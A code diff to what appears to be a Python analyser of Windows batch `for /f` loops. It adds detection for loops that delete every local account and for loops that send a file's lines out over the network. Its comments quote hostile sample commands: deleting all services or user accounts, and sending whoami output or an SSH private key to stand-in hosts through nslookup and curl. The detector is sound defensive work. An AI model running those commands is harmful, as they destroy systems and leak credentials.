@@ -1090,15 +1090,23 @@ def _for_body(words: list[Word], do: int) -> list[Word]:
             # (n19w) `for /f "skip=1" %s in ('wmic service get name') do sc delete %s`:
             # every service, the ones Windows needs to boot among them
             items = ["RpcSs"]
+        elif listing is None and _EVERY_ACCOUNT.match(src):
+            # (n20w, F14) `for /f "skip=4" %u in ('net user') do net user %u /delete`: every
+            # local account, the built-in administrator among them
+            items = ["Administrator"]
         elif listing is not None:
             items = [listing[0]]
         elif echoed is None or "tokens" in " ".join(low) or "delims" in " ".join(low):
-            if var is not None and body and src[:1] in "'`" and _LOOKUP.match(body[0].text):
+            if var is not None and body and _LOOKUP.match(body[0].text):
                 # `for /f %t in ('whoami') do nslookup %t.x.example`: a command's output
-                # is put in the name looked up (DNS exfiltration).
+                # is put in the name looked up (DNS exfiltration); (n20w, F19) a file's
+                # lines as well, `for /f %l in (%USERPROFILE%\.ssh\id_rsa) do curl
+                # http://x.example/?%l` (a line as the whole address is only the address)
+                v = var.lower()
+                read = src[:1] not in "'`"  # (a file's lines, not a command's output)
                 return [
                     Word(w.text, w.start, w.end, True, False, "command")
-                    if var.lower() in w.text.lower()
+                    if v in w.text.lower() and not (read and w.text.strip('"').lower() == v)
                     else w
                     for w in body
                 ]
@@ -1151,6 +1159,11 @@ _EVERY_SERVICE = re.compile(
     r"(?i)\A['`]\s*(?:wmic(?:\.exe)?\s+service\s+get\s+name"
     r"|sc(?:\.exe)?\s+query(?:\s+(?:type=\s*service|state=\s*all))*"
     r"(?:\s*\^?\|\s*find(?:str)?(?:\.exe)?(?:\s+/i)?\s+\"?service_name:?\"?)?)\s*['`]\Z"
+)
+# (n20w) a `for /f` set listing every local account's name
+_EVERY_ACCOUNT = re.compile(
+    r"(?i)\A['`]\s*(?:net(?:\.exe)?\s+users?|wmic(?:\.exe)?\s+useraccount(?:\s+where\s+\S+)?"
+    r"\s+get\s+name(?:\s*/\w+)?)\s*['`]\Z"
 )
 _DIR_LISTING = re.compile(r"\A['`]\s*dir((?:\s+[^'`&|<>\s]+)*)\s*['`]\Z", re.I)
 # `'reg query KEY'` with no value switch (`/v`, `/ve`, `/f`): its output is KEY's subkeys
